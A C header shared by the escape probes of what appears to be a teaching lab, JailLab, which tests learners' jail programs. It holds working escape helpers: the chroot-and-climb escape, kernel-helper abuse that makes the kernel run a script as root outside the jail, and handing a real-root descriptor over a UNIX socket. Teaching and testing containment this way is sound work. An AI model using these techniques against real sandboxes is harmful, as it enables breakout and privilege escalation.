/*
 * probe.h: shared by every JailLab probe (see lessons/README.md, "The probe contract").
 *
 * A probe is started by the learner's jail program, inside the jail:
 *     argv[0] = /bin/<probe-id>   argv[1] = a per-check nonce
 * It tries one technique to reach /outside/secret in the VM's real root and
 * prints what happened. Its words are for the learner only. The agent knows
 * the probe started because it saw this binary's bytes exec'd, and what it
 * printed because it held every other process of the check from then on; the
 * host calls it escaped on the fresh secret in that output, the nonce in
 * /outside/proof, or its exit status:
 *
 *     PROBE_ESCAPED (0)    it reached the secret (and printed it)
 *     PROBE_CONTAINED (1)  it found no way out (its last "blocked:" line says why)
 *     PROBE_UNFIT (3)      it started in a state it cannot be judged in (probe_start)
 *
 * Any other ending (a signal but SIGSYS, another status) is not a report and
 * makes the check an error. A service probe exits 0 once it did its job.
 */
#ifndef JAILLAB_PROBE_H
#define JAILLAB_PROBE_H

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <grp.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

static __attribute__((unused)) const char *probe_name = "probe";
static __attribute__((unused)) const char *probe_nonce = "";

/* The probe's first line, for the learner: where it finds itself. (No verdict reads it: a program can print it too.) */
#define PROBE_STARTED "jaillab-probe: started"

#define PROBE_ESCAPED 0
#define PROBE_CONTAINED 1
#define PROBE_UNFIT 3

static __attribute__((unused)) void probe_say(const char *fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  printf("[%s] ", probe_name);
  vprintf(fmt, ap);
  putchar('\n');
  fflush(stdout);
  va_end(ap);
}

/*
 * A program can hand a probe more than a jail across its exec: signals blocked, ignored or already pending, a
 * timer about to fire. None of that is a jail, and each could stop the probe before it tries anything. So the
 * probe starts clean: a signal pending at its start makes it unfit to judge (it says so and exits PROBE_UNFIT);
 * otherwise every disposition goes back to the default, nothing stays blocked, and the interval timers stop.
 */
static __attribute__((unused)) void probe_start_clean(void) {
  sigset_t pending;
  if (sigpending(&pending) == 0) {
    for (int sig = 1; sig < NSIG; sig++)
      if (sigismember(&pending, sig) == 1) {
        printf("[%s] unfit: signal %d was pending when the probe started\n", probe_name, sig);
        fflush(stdout);
        _exit(PROBE_UNFIT);
      }
  }
  struct sigaction dfl;
  memset(&dfl, 0, sizeof dfl);
  dfl.sa_handler = SIG_DFL;
  for (int sig = 1; sig < NSIG; sig++)
    if (sig != SIGKILL && sig != SIGSTOP) sigaction(sig, &dfl, NULL);
  sigset_t none;
  sigemptyset(&none);
  sigprocmask(SIG_SETMASK, &none, NULL);
  struct itimerval off;
  memset(&off, 0, sizeof off);
  setitimer(ITIMER_REAL, &off, NULL);
  setitimer(ITIMER_VIRTUAL, &off, NULL);
  setitimer(ITIMER_PROF, &off, NULL);
}

/* Starts clean, then prints where the probe finds itself. */
static __attribute__((unused)) void probe_start(int argc, char **argv, const char *name) {
  probe_name = name;
  if (argc > 1) probe_nonce = argv[1];
  setvbuf(stdout, NULL, _IOLBF, 0);
  probe_start_clean();
  /* The raw syscall, not glibc's getcwd(): for a directory outside the process's root the kernel answers
     "(unreachable)/path", which is exactly what a learner should see, and glibc would hide it as ENOENT. */
  char cwd[512];
  long n = syscall(SYS_getcwd, cwd, sizeof cwd);
  if (n < 0) snprintf(cwd, sizeof cwd, "(getcwd failed: %s)", strerror(errno));
  printf("%s %s uid=%d euid=%d gid=%d egid=%d cwd=%s\n", PROBE_STARTED, name, (int)getuid(), (int)geteuid(), (int)getgid(), (int)getegid(), cwd);
  fflush(stdout);
}

/*
 * The symbolic name of an errno value. Probes are built against musl (tiny static binaries, cheap to put
 * in every check's jail), which has no strerrorname_np(): the names a probe can meet are listed here.
 */
static __attribute__((unused)) const char *probe_errno_name(int err) {
#define PROBE_ERRNO(e) \
  case e:              \
    return #e;
  switch (err) {
    PROBE_ERRNO(EPERM) PROBE_ERRNO(ENOENT) PROBE_ERRNO(ESRCH) PROBE_ERRNO(EINTR) PROBE_ERRNO(EIO) PROBE_ERRNO(ENXIO)
    PROBE_ERRNO(E2BIG) PROBE_ERRNO(ENOEXEC) PROBE_ERRNO(EBADF) PROBE_ERRNO(ECHILD) PROBE_ERRNO(EAGAIN) PROBE_ERRNO(ENOMEM)
    PROBE_ERRNO(EACCES) PROBE_ERRNO(EFAULT) PROBE_ERRNO(EBUSY) PROBE_ERRNO(EEXIST) PROBE_ERRNO(EXDEV) PROBE_ERRNO(ENODEV)
    PROBE_ERRNO(ENOTDIR) PROBE_ERRNO(EISDIR) PROBE_ERRNO(EINVAL) PROBE_ERRNO(ENFILE) PROBE_ERRNO(EMFILE) PROBE_ERRNO(ENOTTY)
    PROBE_ERRNO(ETXTBSY) PROBE_ERRNO(EFBIG) PROBE_ERRNO(ENOSPC) PROBE_ERRNO(ESPIPE) PROBE_ERRNO(EROFS) PROBE_ERRNO(EMLINK)
    PROBE_ERRNO(EPIPE) PROBE_ERRNO(ENAMETOOLONG) PROBE_ERRNO(ENOSYS) PROBE_ERRNO(ENOTEMPTY) PROBE_ERRNO(ELOOP)
    PROBE_ERRNO(ENODATA) PROBE_ERRNO(EOPNOTSUPP) PROBE_ERRNO(ENOTSOCK) PROBE_ERRNO(EPROTONOSUPPORT) PROBE_ERRNO(EAFNOSUPPORT)
    PROBE_ERRNO(EADDRINUSE) PROBE_ERRNO(ECONNRESET) PROBE_ERRNO(ENOTCONN) PROBE_ERRNO(ETIMEDOUT) PROBE_ERRNO(ECONNREFUSED)
    PROBE_ERRNO(EDQUOT) PROBE_ERRNO(EOVERFLOW) PROBE_ERRNO(ENOTBLK) PROBE_ERRNO(EDEADLK) PROBE_ERRNO(ENOLCK)
    default:
      return "?";
  }
#undef PROBE_ERRNO
}

/*
 * The process ids a proc filesystem mounted at proc_dir lists, in order, into pids (at most max); how many. (Reading
 * the directory, not trying each possible id: under emulation thousands of lookups of absent ids cost real time.)
 */
static __attribute__((unused)) int probe_list_pids(const char *proc_dir, int *pids, int max) {
  int n = 0;
  DIR *d = opendir(proc_dir);
  if (!d) return 0;
  struct dirent *e;
  while (n < max && (e = readdir(d))) {
    char *end;
    long pid = strtol(e->d_name, &end, 10);
    if (*end == 0 && end != e->d_name && pid > 0) pids[n++] = (int)pid;
  }
  closedir(d);
  return n;
}

/* Reports a failed attempt: the call and its errno, by name. */
static __attribute__((unused)) void probe_blocked(const char *call, int err) {
  probe_say("blocked: %s: %s (%s)", call, strerror(err), probe_errno_name(err));
}

/*
 * Tries to read a file that may be the outside secret. On success prints
 * "escape: <how> -> <content>" and returns 1; otherwise reports why, returns 0.
 */
static __attribute__((unused)) int probe_try_read(const char *how, const char *path) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) {
    char call[600];
    snprintf(call, sizeof call, "open(\"%s\")", path);
    probe_blocked(call, errno);
    return 0;
  }
  char buf[256];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  int err = errno;
  close(fd);
  if (n <= 0) {
    char call[600];
    snprintf(call, sizeof call, "read(\"%s\")", path);
    probe_blocked(call, n < 0 ? err : ENODATA);
    return 0;
  }
  buf[n] = 0;
  buf[strcspn(buf, "\n")] = 0;
  probe_say("escape: %s -> %s", how, buf);
  return 1;
}

/*
 * Reads what an inherited descriptor holds (from its start): an open file needs no path, so no jail hides it.
 * Only the outside secret (the run contract's "SECRET-…") counts; any other file is reported and passed over.
 */
static __attribute__((unused)) int probe_try_read_fd(const char *how, int fd) {
  char buf[256];
  ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
  if (n <= 0) {
    char call[64];
    snprintf(call, sizeof call, "pread(%d)", fd);
    probe_blocked(call, n < 0 ? errno : ENODATA);
    return 0;
  }
  buf[n] = 0;
  buf[strcspn(buf, "\n")] = 0;
  if (strncmp(buf, "SECRET-", 7) != 0) {
    probe_say("blocked: fd %d is an inherited file, but not the outside secret", fd);
    return 0;
  }
  probe_say("escape: %s -> %s", how, buf);
  return 1;
}

/* A write escape: leave the nonce where only an escaped process could. */
static __attribute__((unused)) int probe_write_proof(const char *path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return 0;
  int ok = write(fd, probe_nonce, strlen(probe_nonce)) == (ssize_t)strlen(probe_nonce);
  close(fd);
  return ok;
}

/* Relative paths that reach /outside/secret from a working directory outside the process's root. */
static __attribute__((unused)) const char *const probe_relative_paths[] = {
    "outside/secret",
    "../outside/secret",
    "../../outside/secret",
    "../../../../../../../../outside/secret",
};

/* From the current working directory, tries every relative path; on success also leaves the nonce. */
static __attribute__((unused)) int probe_try_relative(const char *how) {
  for (size_t i = 0; i < sizeof probe_relative_paths / sizeof probe_relative_paths[0]; i++) {
    char label[256];
    snprintf(label, sizeof label, "%s, then %s", how, probe_relative_paths[i]);
    if (probe_try_read(label, probe_relative_paths[i])) {
      probe_write_proof("../../../../../../../../outside/proof");
      return 1;
    }
  }
  return 0;
}

/*
 * The classic escape for root in a chroot (TLPI §18.12): chroot() into a
 * subdirectory leaves the working directory above the new root, and ".." from
 * there climbs to the real root, since ".." only stops at the process's root.
 */
static __attribute__((unused)) int probe_chroot_out(const char *how) {
  if (chroot("/bin") != 0) {
    probe_blocked("chroot(\"/bin\")", errno);
    return 0;
  }
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0) break;
  if (chroot(".") != 0) {
    probe_blocked("chroot(\".\") after climbing", errno);
    return 0;
  }
  if (probe_try_read(how, "/outside/secret")) {
    probe_write_proof("/outside/proof");
    return 1;
  }
  return 0;
}

/*
 * Kernel helpers (core_pattern, modprobe, release_agent, uevent_helper): the kernel itself starts a program
 * as full root in the machine's own namespaces, with the path a privileged process wrote into a kernel
 * setting. A jail's namespaces do not follow that program. These functions are the parts those probes share.
 */

/* Mounts a fresh filesystem of `type` on a new directory at the jail's root (or on /bin, which every jail has). */
static __attribute__((unused)) const char *probe_mount_fresh(const char *type, const char *dir, const char *options) {
  if (mkdir(dir, 0755) != 0 && errno != EEXIST) dir = "/bin";
  if (mount(type, dir, type, 0, options) != 0) {
    char call[128];
    snprintf(call, sizeof call, "mount(\"%s\")", type);
    probe_blocked(call, errno);
    return NULL;
  }
  return dir;
}

/*
 * The /proc to write a kernel setting through: the jail's own when it has one (a /proc left in a jail needs no
 * mount() at all, and writing a sysctl is checked against euid 0 and the file's mode, not a capability), else a
 * fresh one (mounting takes CAP_SYS_ADMIN). *fresh says which, for probe_unmount().
 */
static __attribute__((unused)) const char *probe_proc_for(const char *setting, int *fresh) {
  char path[160];
  snprintf(path, sizeof path, "/proc/sys%s", setting);
  *fresh = 0;
  if (access(path, F_OK) == 0) {
    probe_say("the jail has a /proc of its own: writing through it");
    return "/proc";
  }
  *fresh = 1;
  return probe_mount_fresh("proc", "/.probe-proc", NULL);
}

/* Leaves no mount behind: the next check rebuilds the jail directory, and a directory it cannot remove is an error. */
static __attribute__((unused)) void probe_unmount(const char *dir) {
  if (!dir) return;
  umount2(dir, MNT_DETACH);
  if (strcmp(dir, "/bin") != 0) rmdir(dir);
}

/*
 * Where the jail's root is outside, where the kernel's helper will look for a path. A bind mount's line in
 * mountinfo names the directory it shows (its 4th field) relative to its filesystem's root, the real root
 * here; a plain chroot hides the outside mounts, and then the run contract says the jail is /jail.
 */
static __attribute__((unused)) void probe_jail_outside(const char *proc, char *out, size_t size) {
  snprintf(out, size, "/jail");
  char path[128];
  snprintf(path, sizeof path, "%s/self/mountinfo", proc);
  FILE *f = fopen(path, "r");
  if (!f) return;
  char line[1024];
  while (fgets(line, sizeof line, f)) {
    char root[512], point[512];
    if (sscanf(line, "%*s %*s %*s %511s %511s", root, point) == 2 && strcmp(point, "/") == 0 && strcmp(root, "/") != 0)
      snprintf(out, size, "%s", root);
  }
  fclose(f);
}

/*
 * Writes /.probe-helper.sh in the jail: run by the kernel outside, it copies the secret to /.probe-helper.out
 * in the jail and leaves the nonce in /outside/proof. Shell builtins only: the machine's /bin/sh is busybox.
 */
static __attribute__((unused)) int probe_write_helper(const char *jail_outside, char *helper, size_t size) {
  snprintf(helper, size, "%s/.probe-helper.sh", jail_outside);
  unlink("/.probe-helper.out");
  FILE *f = fopen("/.probe-helper.sh", "w");
  if (!f) {
    probe_blocked("open(\"/.probe-helper.sh\")", errno);
    return 0;
  }
  fprintf(f, "#!/bin/sh\nread -r s < /outside/secret\necho \"$s\" > %s/.probe-helper.out\necho -n %s > /outside/proof\n", jail_outside, probe_nonce);
  fclose(f);
  if (chmod("/.probe-helper.sh", 0755) != 0) {
    probe_blocked("chmod(\"/.probe-helper.sh\")", errno);
    return 0;
  }
  return 1;
}

/*
 * Waits up to 3.5 s for the helper's file, then reads it: the kernel starts a helper asynchronously (a workqueue,
 * then an exec), and on a loaded TCG host that took over the 2 s this once waited. The check's wall limit (5 s)
 * still leaves room; the wait only happens once the setting was written, so a contained probe never waits.
 */
static __attribute__((unused)) int probe_await_helper(const char *how) {
  for (int i = 0; i < 175 && access("/.probe-helper.out", F_OK) != 0; i++) usleep(20000);
  int ok = probe_try_read(how, "/.probe-helper.out");
  unlink("/.probe-helper.out");
  unlink("/.probe-helper.sh");
  return ok;
}

/* Reads a one-line kernel setting into buf (without its newline); 0 if it cannot be read. */
static __attribute__((unused)) int probe_read_setting(const char *path, char *buf, size_t size) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  ssize_t n = read(fd, buf, size - 1);
  close(fd);
  if (n < 0) return 0;
  buf[n] = 0;
  buf[strcspn(buf, "\n")] = 0;
  return 1;
}

/* Writes a kernel setting; reports the failure as the probe's blocked line. */
static __attribute__((unused)) int probe_write_setting(const char *path, const char *value) {
  int fd = open(path, O_WRONLY | O_TRUNC);
  int ok = fd >= 0 && write(fd, value, strlen(value)) == (ssize_t)strlen(value);
  int err = errno;
  if (fd >= 0) close(fd);
  if (!ok) {
    char call[300];
    snprintf(call, sizeof call, "write(\"%s\")", path);
    probe_blocked(call, err);
  }
  return ok;
}

/*
 * An accomplice (a helper started outside the jail before the check) says it is ready on fd 3: the word
 * "ready", then the pipe closes. A pipe that closes without it means the accomplice failed, and the check
 * ends as "could not be judged" instead of going on without its accomplice.
 */
static __attribute__((unused)) void accomplice_ready(void) {
  if (write(3, "ready\n", 6) != 6) _exit(125);
  close(3);
}

/*
 * For a probe with `race: jail-path` (the path race, won on cue): blocks until the agent says the
 * window is open, i.e. the jail program is about to set its root through the jail's path after
 * having looked that path up before (fd 4). Returns 1 then, 0 if the check ends without a window.
 */
static __attribute__((unused)) int accomplice_await_window(void) {
  char cue[16];
  ssize_t n;
  while ((n = read(4, cue, sizeof cue)) < 0 && errno == EINTR) {
  }
  return n > 0;
}

/* Says the window was used (the jail program may go on). */
static __attribute__((unused)) void accomplice_window_used(void) {
  if (write(4, "done\n", 5) != 5) _exit(125);
}

/* Receives one descriptor passed with SCM_RIGHTS over a connected UNIX socket; -1 if none came. */
static __attribute__((unused)) int probe_receive_fd(int sock) {
  char byte;
  struct iovec iov = {.iov_base = &byte, .iov_len = 1};
  union {
    struct cmsghdr h;
    char buf[CMSG_SPACE(sizeof(int))];
  } ctl;
  struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl.buf, .msg_controllen = sizeof ctl.buf};
  if (recvmsg(sock, &msg, 0) <= 0) return -1;
  struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
  if (!c || c->cmsg_type != SCM_RIGHTS) return -1;
  int fd;
  memcpy(&fd, CMSG_DATA(c), sizeof fd);
  return fd;
}

/* Accomplice side: hands every client a descriptor of the real root directory, forever. */
static __attribute__((unused)) void accomplice_serve_root_fd(int listener) {
  for (;;) {
    int c = accept(listener, NULL, NULL);
    if (c < 0) continue;
    int root = open("/", O_RDONLY | O_DIRECTORY);
    char byte = 'r';
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    union {
      struct cmsghdr h;
      char buf[CMSG_SPACE(sizeof(int))];
    } ctl;
    memset(&ctl, 0, sizeof ctl);
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl.buf, .msg_controllen = sizeof ctl.buf};
    struct cmsghdr *h = CMSG_FIRSTHDR(&msg);
    h->cmsg_level = SOL_SOCKET;
    h->cmsg_type = SCM_RIGHTS;
    h->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(h), &root, sizeof root);
    sendmsg(c, &msg, 0);
    close(root);
    close(c);
  }
}

/* Accomplice side: become the jailed service's user (uid/gid 1000) outside the jail, still inspectable. */
static __attribute__((unused)) void accomplice_become_service_user(void) {
  setgroups(0, NULL);
  if (setresgid(1000, 1000, 1000) != 0 || setresuid(1000, 1000, 1000) != 0) _exit(1);
  /* Changing uid makes a process non-dumpable, which hides it from ptrace and /proc/PID/root; a normal
   * service started as uid 1000 would be dumpable, so undo that. */
  prctl(PR_SET_DUMPABLE, 1);
}

/* Accomplice side: wait to be killed when the check ends. */
static __attribute__((unused)) void accomplice_wait(void) {
  for (;;) pause();
}

#endif
